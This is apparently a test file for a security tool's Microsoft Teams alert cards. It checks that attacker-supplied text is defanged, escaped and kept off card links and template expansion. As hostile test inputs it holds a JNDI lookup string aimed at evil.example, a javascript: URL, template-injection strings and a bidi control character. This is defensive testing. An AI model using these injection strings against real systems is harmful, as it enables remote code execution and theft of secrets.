import { describe, expect, test } from "bun:test"
import fc from "fast-check"
import { teamsMessage } from "../../../src/domain/channels/teams.ts"
import { adaptiveCardErrors } from "../../support/schemas.ts"
import {
  APP_URL,
  CTX,
  everyMessage,
  HOSTILE,
  HOSTILE_FRAGMENTS,
  hostileMessage,
  hugeMessage,
  incidentMessage,
} from "./messages.ts"

/**
 * Cards are checked against the Adaptive Cards 1.5 JSON schema (test/fixtures/adaptive-cards, from
 * microsoft/AdaptiveCards), and by rules written from the Adaptive Cards text documentation
 * (https://aka.ms/ACTextFeatures): TextBlock and Fact texts are a markdown subset, TextRun texts are not markdown, and
 * `{{DATE(…)}}` / `{{TIME(…)}}` are functions in text; the Adaptive Cards templating language
 * (https://aka.ms/ACTemplating) expands `${…}` in any string of a card that goes through it. A card's only link is the
 * incident's page on APP_URL.
 */

/** The most a Teams message may be (the Teams and Workflows limit is about 28 KB). */
const TEAMS_MAX_BYTES = 28_000

const INVISIBLE = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}\p{Surrogate}]/u
const URL_LIKE = /[a-z][a-z0-9+.-]*:\/\/|www\.|[\p{L}\p{N}-][.\u3002\uFF0E\uFF61]\p{L}{2}/iu

interface Found {
  readonly where: string
  readonly problem: string
}

/** Markdown text must not leave a markup character unescaped (a backslash before it). */
const unescapedMarkdown = (text: string): boolean => /(^|[^\\])(\\\\)*[*_~`[\]<>]/.test(text)

type Run = { readonly text: string; readonly fontType?: string }

/** Every problem the payload has: envelope, schema, text rules, links. */
export const checkTeams = (payload: unknown): Array<Found> => {
  const out: Array<Found> = []
  const p = payload as {
    type?: unknown
    attachments?: Array<{ contentType?: unknown; contentUrl?: unknown; content?: Record<string, unknown> }>
  }
  if (p.type !== "message" || !Array.isArray(p.attachments) || p.attachments.length !== 1) {
    return [{ where: "envelope", problem: "not a Workflows message with one attachment" }]
  }
  const a = p.attachments[0]
  if (a?.contentType !== "application/vnd.microsoft.card.adaptive" || a.contentUrl !== null) {
    out.push({ where: "attachment", problem: "contentType or contentUrl" })
  }
  const card = a?.content
  if (card?.version !== "1.5" || card.$schema !== "http://adaptivecards.io/schemas/adaptive-card.json") {
    out.push({ where: "card", problem: "version or $schema" })
  }
  const schemaErrors = adaptiveCardErrors(card)
  if (schemaErrors !== "") {
    out.push({ where: "schema", problem: schemaErrors })
  }
  const bytes = new TextEncoder().encode(JSON.stringify(payload)).length
  if (bytes > TEAMS_MAX_BYTES) out.push({ where: "size", problem: `${bytes} bytes` })
  const text = (where: string, s: string, markdown: boolean) => {
    if (INVISIBLE.test(s)) out.push({ where, problem: `an invisible or control character: ${JSON.stringify(s)}` })
    if (s.includes("{{")) out.push({ where, problem: `a text function: ${s}` })
    if (s.includes("${")) out.push({ where, problem: `a template expression: ${s}` })
    if (URL_LIKE.test(s.replace(/\\/g, ""))) out.push({ where, problem: `URL-like text: ${s}` })
    if (markdown && unescapedMarkdown(s)) out.push({ where, problem: `unescaped markdown: ${s}` })
  }
  const walk = (v: unknown, where: string): void => {
    if (Array.isArray(v)) {
      v.forEach((x, k) => {
        walk(x, `${where}[${k}]`)
      })
      return
    }
    if (typeof v !== "object" || v === null) return
    const o = v as Record<string, unknown>
    if (o.type === "TextBlock") text(where, String(o.text), true)
    if (o.type === "TextRun") text(where, String(o.text), false)
    if (o.type === "FactSet") {
      for (const f of o.facts as Array<{ title: string; value: string }>) {
        text(`${where} fact`, f.title, true)
        text(`${where} fact`, f.value, true)
      }
    }
    if (o.type === "Action.OpenUrl" && !(typeof o.url === "string" && o.url.startsWith(`${APP_URL}/`))) {
      out.push({ where, problem: `a link off APP_URL: ${String(o.url)}` })
    }
    for (const key of ["selectAction", "backgroundImage", "iconUrl", "msteams"]) {
      if (key in o) out.push({ where, problem: `${key} (nothing of the kind is used)` })
    }
    if (typeof o.type === "string" && /^(Image|Media|Action\.(Submit|Execute|ShowCard))$/.test(o.type)) {
      out.push({ where, problem: `${o.type} (not used)` })
    }
    for (const [k, x] of Object.entries(o)) walk(x, `${where}.${k}`)
  }
  walk(card, "card")
  return out
}

const cardOf = (payload: object) =>
  (payload as { attachments: Array<{ content: { body: Array<Record<string, unknown>>; actions?: Array<object> } }> })
    .attachments[0]?.content

/** Text Teams reads as service words (not monospace runs): what must never hold attacker markup. */
const serviceWords = (payload: object): string => {
  const texts: Array<string> = []
  const walk = (v: unknown): void => {
    if (Array.isArray(v)) v.forEach(walk)
    else if (typeof v === "object" && v !== null) {
      const o = v as Record<string, unknown> & Run
      if ((o.type === "TextRun" && o.fontType !== "Monospace") || o.type === "TextBlock") texts.push(String(o.text))
      for (const x of Object.values(o)) walk(x)
    }
  }
  walk(cardOf(payload)?.body)
  return texts.join("\n")
}

describe("Teams messages", () => {
  test("every message type is a Workflows message holding a valid Adaptive Card 1.5", () => {
    for (const message of everyMessage()) {
      const payload = teamsMessage(message, CTX)
      expect({ type: message.type, problems: checkTeams(payload) }).toEqual({ type: message.type, problems: [] })
    }
  })

  test("an incident card carries title, facts, techniques, newest events and the one link", () => {
    const payload = teamsMessage(incidentMessage("incident.created"), CTX)
    const card = cardOf(payload)
    const json = JSON.stringify(card)
    const facts = card?.body.find((b) => b.type === "FactSet") as { facts: Array<{ title: string; value: string }> }
    expect(facts.facts.map((f) => f.title)).toEqual([
      "Severity",
      "Sensor",
      "Source IP",
      "Events",
      "First seen",
      "Last seen",
      "Techniques",
    ])
    expect(facts.facts[2]?.value).toBe("203.0.113.7")
    expect(facts.facts[1]?.value).toBe("web-01 (linux-server)")
    expect(facts.facts[6]?.value).toContain("T1110.001 Brute Force: Password Guessing")
    // The sensor name the title quotes is a monospace run.
    expect(json).toContain('{"type":"TextRun","text":"web-01","fontType":"Monospace","weight":"Bolder"}')
    expect(json).toContain("Newest events (3 of 3)")
    expect(card?.actions).toEqual([
      { type: "Action.OpenUrl", title: "Open in console", url: `${APP_URL}/incidents/inc_01ARZ3NDEKTSV4RRFFQ69G5FAV` },
    ])
  })

  test("a card links only to APP_URL: another url gives no action", () => {
    for (const url of [
      "https://evil.example/x",
      `${APP_URL}.evil.example/x`,
      `${APP_URL}/x y`,
      "javascript:alert(1)",
    ]) {
      const base = incidentMessage("incident.created")
      const payload = teamsMessage({ ...base, incident: { ...base.incident, url } }, CTX)
      expect(cardOf(payload)?.actions).toBeUndefined()
      expect(JSON.stringify(payload)).not.toContain("evil")
      expect(checkTeams(payload)).toEqual([])
    }
  })

  test("sensor cards have no link", () => {
    for (const message of everyMessage().slice(-3)) expect(cardOf(teamsMessage(message, CTX))?.actions).toBeUndefined()
  })

  test("a huge incident stays a valid card under the Teams message size", () => {
    const payload = teamsMessage(hugeMessage(), CTX)
    expect(checkTeams(payload)).toEqual([])
    expect(JSON.stringify(payload)).toContain("Newest events (5 of 20)")
    expect(JSON.stringify(payload)).toContain("… (cut)")
  })

  test("hostile attacker text is only in monospace runs, defanged, and markdown is escaped", () => {
    for (const s of HOSTILE) {
      const payload = teamsMessage(hostileMessage(s), CTX)
      expect({ s, problems: checkTeams(payload) }).toEqual({ s, problems: [] })
      const words = serviceWords(payload)
      for (const fragment of HOSTILE_FRAGMENTS) expect({ s, found: fragment.test(words) }).toEqual({ s, found: false })
    }
    const json = JSON.stringify(teamsMessage(hostileMessage("[x](http://evil.example) *b* {{DATE(x)}}\u202E"), CTX))
    // In a run: shown as typed, defanged; in a fact (markdown): escaped too.
    expect(json).toContain('"text":"[x](hxxp[:]//evil[.]example) *b* ｛{DATE(x)}}[U+202E]","fontType":"Monospace"')
    expect(json).toContain(
      "\\\\[x\\\\](hxxp\\\\[:\\\\]//evil\\\\[.\\\\]example) \\\\*b\\\\* ｛{DATE(x)}}\\\\[U+202E\\\\]",
    )
  })

  test("attacker text cannot write a template expression \u0024{…} (or a text function, even after another {) anywhere in a card", () => {
    const writes = [
      "\u0024{jndi:ldap://evil.example/a}",
      "\u0024{$root.secret}",
      "$\u0024{x}",
      "\u0024{{DATE(2017-02-14T06:08:39Z, SHORT)}}",
      "{{{DATE(2017-02-14T06:08:39Z, SHORT)}}}",
      "{\u0024{if(true, 'a', 'b')}}",
      "x$\u200B{y}",
    ]
    for (const s of writes) {
      // In every place attacker text goes (usernames, details, sensor name and profile), and in a service title.
      const payload = teamsMessage(hostileMessage(s), CTX)
      expect({ s, problems: checkTeams(payload) }).toEqual({ s, problems: [] })
      const titled = incidentMessage("incident.created", { rawTitle: `Login as ${JSON.stringify(s)} ${s}` })
      expect({ s, problems: checkTeams(teamsMessage(titled, CTX)) }).toEqual({ s, problems: [] })
    }
    const json = JSON.stringify(teamsMessage(hostileMessage("\u0024{jndi:x} {{{DATE(x)}}}"), CTX))
    // Shown as typed but for the one brace that would open the expression.
    expect(json).toContain('"text":"$｛jndi:x} ｛｛{DATE(x)}}}","fontType":"Monospace"')
  })

  test("no text of a card holds \u0024{ or {{, whatever the attacker text", () => {
    const unit = fc.constantFrom("{", "}", "$", "\\", "`", "a", " ", "\u200B", "｛")
    fc.assert(
      fc.property(fc.string({ unit, maxLength: 16 }), (s) => {
        const payload = teamsMessage(hostileMessage(s), CTX)
        const texts = JSON.stringify(payload)
        expect(checkTeams(payload).filter((f) => /text function|template expression/.test(f.problem))).toEqual([])
        expect(texts.includes("\u0024{")).toBe(false)
      }),
      { numRuns: Number(process.env.FC_RUNS ?? 200) },
    )
  })

  test("an empty title or summary still gives a valid card", () => {
    const base = incidentMessage("incident.created", { rawTitle: "" })
    const events = base.incident.events.map((e) => ({ ...e, summary: "" }))
    const payload = teamsMessage({ ...base, incident: { ...base.incident, events } }, CTX)
    expect(checkTeams(payload)).toEqual([])
    expect(JSON.stringify(payload)).toContain("(no title)")
  })

  test("any attacker strings in titles, summaries and attackerInput give a card that keeps the rules", () => {
    const text = fc.oneof(fc.string({ unit: "binary", maxLength: 300 }), fc.constantFrom(...HOSTILE))
    fc.assert(
      fc.property(fc.array(text, { minLength: 1, maxLength: 4 }), text, text, (usernames, detail, sensorName) => {
        const message = incidentMessage("incident.reopened", {
          usernames,
          details: [detail],
          sensorName,
          profile: detail,
          events: 6,
        })
        expect(checkTeams(teamsMessage(message, CTX))).toEqual([])
      }),
      { numRuns: 200 },
    )
  })

  test("the schema and the checker reject what they must", () => {
    const ok = teamsMessage(incidentMessage("incident.created"), CTX) as {
      attachments: Array<{ content: Record<string, unknown> }>
    }
    const withBody = (body: Array<object>) => ({
      ...ok,
      attachments: [{ ...ok.attachments[0], content: { ...ok.attachments[0]?.content, body } }],
    })
    expect(checkTeams(withBody([{ type: "TextBlock", text: "x", bogus: true }]))).not.toEqual([])
    const mono = { type: "TextRun", text: "x", fontType: "Mono" }
    expect(checkTeams(withBody([{ type: "RichTextBlock", inlines: [mono] }]))).not.toEqual([])
    expect(checkTeams(withBody([{ type: "TextBlock", text: "[x](https://a.example)" }]))).not.toEqual([])
    expect(checkTeams(withBody([{ type: "TextBlock", text: "see evil.example" }]))).not.toEqual([])
    expect(checkTeams(withBody([{ type: "TextBlock", text: "\\*fine\\*" }]))).toEqual([])
    expect(checkTeams(withBody([{ type: "FactSet", facts: [{ title: "a", value: "*b*" }] }]))).not.toEqual([])
  })
})
